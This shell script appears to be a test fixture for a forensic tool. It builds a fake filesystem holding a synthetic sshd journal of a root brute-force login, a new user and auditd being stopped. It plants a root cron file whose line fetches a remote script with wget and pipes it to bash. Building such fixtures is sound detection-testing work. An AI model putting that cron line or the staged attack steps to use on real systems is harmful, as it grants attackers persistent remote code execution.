#!/bin/sh
# OpenSSH 9.8+ in the journal: SYSLOG_IDENTIFIER=sshd-session (and sshd-auth); no text log.
set -e
root=$1
jr=""
for p in /usr/lib/systemd/systemd-journal-remote /lib/systemd/systemd-journal-remote; do
	[ -x "$p" ] && jr=$p && break
done
[ -n "$jr" ] || { echo "SKIP: systemd-journal-remote is not installed (package systemd-journal-remote)"; exit 1; }
mid=fedcba9876543210fedcba9876543210
mkdir -p "$root/etc" "$root/var/log/journal/$mid" "$root/etc/cron.d" "$root/root"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$root/etc/passwd"
printf '* * * * * root wget -q -O- http://203.0.113.9/s.sh | bash\n' >"$root/etc/cron.d/sysupdate"
python3 - "$root" "$mid" >"$root/in.export" <<'PY'
import sys
root, mid = sys.argv[1], sys.argv[2]
T = 1710000000
ents = [(T, "sshd-auth", "Failed password for root from 203.0.113.9 port 1 ssh2"),
        (T + 2, "sshd-session", "Failed password for root from 203.0.113.9 port 2 ssh2"),
        (T + 4, "sshd-session", "Failed password for root from 203.0.113.9 port 3 ssh2"),
        (T + 10, "sshd-session", "Accepted password for root from 203.0.113.9 port 4 ssh2"),
        (T + 20, "CRON", "pam_unix(cron:session): session opened for user root"),
        (T + 40, "useradd", "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash"),
        (T + 50, "sudo", "    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd")]
for i, (t, ident, msg) in enumerate(ents):
    print("__REALTIME_TIMESTAMP=%d" % (t * 1000000 + 123456))
    print("__MONOTONIC_TIMESTAMP=%d" % (5000000 + i))
    print("_BOOT_ID=0123456789abcdef0123456789abcdef")
    print("_MACHINE_ID=" + mid)
    print("_HOSTNAME=deb")
    print("SYSLOG_IDENTIFIER=" + ident)
    print("_COMM=" + (ident if ident != "sudo" else "sudo"))
    print("_UID=0")
    print("MESSAGE=" + msg)
    print()
PY
"$jr" -o "$root/var/log/journal/$mid/remote.journal" - <"$root/in.export" >/dev/null 2>&1
rm -f "$root/in.export"
touch -d @1710000060 "$root/etc/cron.d/sysupdate"
